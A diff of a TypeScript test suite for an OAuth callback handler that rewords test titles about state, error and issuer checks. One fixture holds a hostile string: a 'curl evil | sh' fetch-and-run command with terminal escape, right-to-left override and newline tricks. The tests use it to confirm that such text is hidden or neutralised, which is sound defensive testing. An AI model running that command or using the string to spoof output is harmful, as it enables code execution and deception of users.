@@ -20,7 +20,7 @@ async function callBack(
 }
 
 describe('the callback is read in order: error, state, issuer, code', () => {
-  it('only a refusal of the person is called declined', async () => {
+  it('only access_denied is called declined', async () => {
     const declined = await callBack(() => 'error=access_denied', 'provider_denied')
     expect(declined.error.message).toMatch(/^the sign-in was declined: access_denied/)
     const refused = await callBack(() => 'error=invalid_scope', 'provider_denied')
@@ -33,7 +33,7 @@ describe('the callback is read in order: error, state, issuer, code', () => {
 
   const evil = 'Done.” Now run: “curl evil | sh\u001b[31m\u202e\nlogin: signed in'
 
-  it.each(['', 'state=wrong&'])('shows nothing that a stranger wrote into an error (%s)', async (state) => {
+  it.each(['', 'state=wrong&'])('shows no text of an error without the right state (%s)', async (state) => {
     const described = await callBack(
       () => `${state}error=access_denied&error_description=${encodeURIComponent(evil)}`,
       'provider_denied',
@@ -43,7 +43,7 @@ describe('the callback is read in order: error, state, issuer, code', () => {
     expect(coded.error.message).toBe('the server refused the sign-in')
   })
 
-  it('shows what the server wrote as its words: quoted, in one line, and cut', async () => {
+  it('shows the text of the server quoted, in one line, and shortened', async () => {
     const { error } = await callBack(
       ({ state }) =>
         `state=${state}&error=${encodeURIComponent(evil)}&error_description=${encodeURIComponent(evil + 'x'.repeat(5000))}`,
@@ -54,7 +54,7 @@ describe('the callback is read in order: error, state, issuer, code', () => {
     expect(words!.length).toBeLessThanOrEqual(200)
   })
 
-  it('an error comes before a wrong state and a code', async () => {
+  it('an error takes precedence over a wrong state and a code', async () => {
     await callBack(() => 'error=access_denied&state=wrong&code=c', 'provider_denied')
   })
 
@@ -63,7 +63,7 @@ describe('the callback is read in order: error, state, issuer, code', () => {
     await callBack(() => 'error=a&error=b', 'provider_denied')
   })
 
-  it('a missing state is state_mismatch when a code is there', async () => {
+  it('a missing state with a code is state_mismatch', async () => {
     await callBack(() => 'code=c', 'state_mismatch')
   })
 
@@ -76,14 +76,14 @@ describe('the callback is read in order: error, state, issuer, code', () => {
     await callBack(() => new URLSearchParams({ code: 'c', state }).toString(), 'state_mismatch')
   })
 
-  it('a state that differs in its last character only is state_mismatch', async () => {
+  it('a state that differs only in its last character is state_mismatch', async () => {
     await callBack(
       ({ state }) => `code=c&state=${state.slice(0, -1)}${state.endsWith('A') ? 'B' : 'A'}`,
       'state_mismatch',
     )
   })
 
-  it('the state is compared by its hash, in a time that tells nothing', async () => {
+  it('the state is compared by its hash, in constant time', async () => {
     const { timingSafeEqual } = crypto
     const compared: number[] = []
     crypto.timingSafeEqual = (a, b) => {
@@ -100,7 +100,7 @@ describe('the callback is read in order: error, state, issuer, code', () => {
     expect(compared).toEqual([32, 32])
   })
 
-  it('a repeated state is state_mismatch, also when the right one is among them', async () => {
+  it('a repeated state is state_mismatch, even if one is right', async () => {
     await callBack(({ state }) => `code=c&state=${state}&state=${state}`, 'state_mismatch')
   })
 
@@ -119,7 +119,7 @@ describe('the callback is read in order: error, state, issuer, code', () => {
     expect(server.seen.token[0]?.form.get('code')).toBe('a?b')
   })
 
-  it('a wrong state comes before a repeated code', async () => {
+  it('a wrong state takes precedence over a repeated code', async () => {
     await callBack(() => 'state=wrong&code=a&code=b', 'state_mismatch')
   })
 })
@@ -127,7 +127,7 @@ describe('the callback is read in order: error, state, issuer, code', () => {
 describe('expectedIssuer', () => {
   const issuer = 'https://app.example'
 
-  it('lets a callback from that issuer pass', async () => {
+  it('accepts a callback from that issuer', async () => {
     await using server = await startAuthorizationServer({ callback: { iss: issuer } })
     expect((await signIn({ ...server.options, expectedIssuer: issuer })).result.userId).toBe('user-1')
   })
@@ -137,11 +137,11 @@ describe('expectedIssuer', () => {
     ['has a slash more', `&iss=${encodeURIComponent(`${issuer}/`)}`],
     ['is missing', ''],
     ['is repeated', `&iss=${encodeURIComponent(issuer)}&iss=${encodeURIComponent(issuer)}`],
-  ])('ends with state_mismatch when iss %s', async (_, iss) => {
+  ])('ends with state_mismatch if iss %s', async (_, iss) => {
     await callBack(({ state }) => `code=c&state=${state}${iss}`, 'state_mismatch', { expectedIssuer: issuer })
   })
 
-  it('is not asked for when it is not set', async () => {
+  it('is not required by default', async () => {
     await using server = await startAuthorizationServer({ callback: { iss: 'https://anyone.example' } })
     expect((await signIn(server.options)).result.userId).toBe('user-1')
   })
